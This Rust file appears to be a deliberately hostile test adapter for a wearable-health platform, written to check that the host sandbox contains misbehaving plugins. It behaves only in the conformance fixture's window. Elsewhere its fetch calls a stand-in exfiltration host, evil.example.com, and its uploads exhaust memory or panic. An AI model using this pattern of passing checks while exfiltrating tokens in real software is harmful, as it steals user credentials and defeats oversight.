//! A deliberately misbehaving wearable adapter (see the package description). Each failure
//! must cost only its own call: the host keeps serving, and a failed sync is recorded on
//! the connection.

#![cfg_attr(not(target_arch = "wasm32"), allow(unused))]

#[cfg(target_arch = "wasm32")]
mod component {
    use std::cell::RefCell;

    use mindflow_adapter_kit::bindings::exports::mindflow::platform::adapter::{
        self as wit, AdapterError, Batch, ConnectionKind, Guest, GuestUpload, HrvKind,
        Notification, ProviderInfo,
    };
    use mindflow_adapter_kit::fixture::Fixture;
    use mindflow_adapter_kit::model::{Batch as ModelBatch, Day};
    use mindflow_adapter_kit::transport::Transport;
    use mindflow_adapter_kit::wasi_http::WasiHttp;

    struct Adapter;

    /// The window of the conformance fixture.
    const FIXTURE_DAY: &str = "2000-01-01";
    /// The one request of the fixture's fetch.
    const FIXTURE_URL: &str =
        "https://health.googleapis.com/v4/users/me/dataTypes/steps/dataPoints";
    /// The steps its answer carries.
    #[cfg(not(feature = "upload"))]
    const FIXTURE_STEPS: i32 = 4321;

    /// An upload that misbehaves as its name says.
    struct Upload {
        name: String,
        hoard: RefCell<Vec<Vec<u8>>>,
    }

    impl GuestUpload for Upload {
        fn new(filename: String) -> Self {
            Self {
                name: filename,
                hoard: RefCell::new(Vec::new()),
            }
        }

        fn write(&self, chunk: Vec<u8>) -> Result<(), AdapterError> {
            match self.name.as_str() {
                // Keeps every chunk, and more: past the memory cap on a large file.
                "bomb.xml" => {
                    let mut hoard = self.hoard.borrow_mut();
                    hoard.push(chunk.clone());
                    hoard.push(vec![0u8; 4 * 1024 * 1024]);
                    Ok(())
                }
                "trap.xml" => panic!("the hostile adapter traps on purpose"),
                _ => Ok(()),
            }
        }

        fn finish(&self) -> Result<Batch, AdapterError> {
            Ok(Batch {
                days: Vec::new(),
                sleep: Vec::new(),
            })
        }
    }

    impl Guest for Adapter {
        type Upload = Upload;

        #[cfg(feature = "upload")]
        fn describe() -> ProviderInfo {
            ProviderInfo {
                id: "hostile-upload".into(),
                display_name: "Hostile test adapter (uploads)".into(),
                connection: ConnectionKind::Upload,
                api_hosts: Vec::new(),
                webhooks: None,
                hrv_kind: HrvKind::None,
                backfill_days: 0,
                requests_per_minute: 0,
            }
        }

        #[cfg(not(feature = "upload"))]
        fn describe() -> ProviderInfo {
            ProviderInfo {
                id: "hostile".into(),
                display_name: "Hostile test adapter".into(),
                connection: ConnectionKind::Oauth(wit::Oauth {
                    authorization_endpoint: "https://accounts.google.com/o/oauth2/v2/auth".into(),
                    token_endpoint: "https://oauth2.googleapis.com/token".into(),
                    revocation_endpoint: None,
                    scopes: vec![
                        "https://www.googleapis.com/auth/googlehealth.activity_and_fitness.readonly"
                            .into(),
                    ],
                    pkce: true,
                    client_auth: wit::ClientAuth::Body,
                    extra_params: Vec::new(),
                }),
                api_hosts: vec!["https://health.googleapis.com".into()],
                webhooks: None,
                hrv_kind: HrvKind::None,
                backfill_days: 3,
                requests_per_minute: 60,
            }
        }

        /// Passes the install check: its fixture is a window no real sync asks for, and for
        /// it alone the adapter behaves (the check is about conformance; containment at run
        /// time is the sandbox's job, and is what this adapter exists to test).
        #[cfg(feature = "upload")]
        fn conformance() -> wit::Fixture {
            Fixture::default()
                .upload("conformance.xml", "<HealthData/>", ModelBatch::default())
                .into()
        }

        #[cfg(not(feature = "upload"))]
        fn conformance() -> wit::Fixture {
            let expected = ModelBatch {
                days: vec![Day {
                    steps: Some(FIXTURE_STEPS),
                    ..Day::new(FIXTURE_DAY)
                }],
                sleep: Vec::new(),
            };
            Fixture::default()
                .get_json(
                    FIXTURE_URL,
                    &format!(r#"{{"dataPoints": [{{"steps": {{"count": "{FIXTURE_STEPS}"}}}}]}}"#),
                )
                .fetch(FIXTURE_DAY, FIXTURE_DAY, expected)
                .identify("hostile-user")
                .into()
        }

        /// Reaches for a host it never declared, hoping for the user's token; except for the
        /// fixture's window, where it reads its one canned answer (the `drift` variant
        /// misreads it by one step, so its fixture does not round-trip).
        fn fetch(start: String, _end: String) -> Result<Batch, AdapterError> {
            if start == FIXTURE_DAY {
                let page = WasiHttp
                    .get(FIXTURE_URL, &[])
                    .and_then(|r| r.ok()?.json())?;
                let steps = page["dataPoints"][0]["steps"]["count"]
                    .as_str()
                    .and_then(|c| c.parse::<i32>().ok())
                    .map(|s| if cfg!(feature = "drift") { s - 1 } else { s });
                return Ok(ModelBatch {
                    days: vec![Day {
                        steps,
                        ..Day::new(FIXTURE_DAY)
                    }],
                    sleep: Vec::new(),
                }
                .into());
            }
            match WasiHttp.get("https://evil.example.com/exfiltrate", &[]) {
                Ok(_) => Ok(Batch {
                    days: Vec::new(),
                    sleep: Vec::new(),
                }),
                Err(error) => Err(wit::AdapterError::from(error)),
            }
        }

        fn read_notification(_body: Vec<u8>) -> Result<Vec<Notification>, AdapterError> {
            Ok(Vec::new())
        }

        fn identify() -> Result<String, AdapterError> {
            Ok("hostile-user".into())
        }
    }

    mindflow_adapter_kit::bindings::export_adapter!(Adapter with_types_in mindflow_adapter_kit::bindings);
}
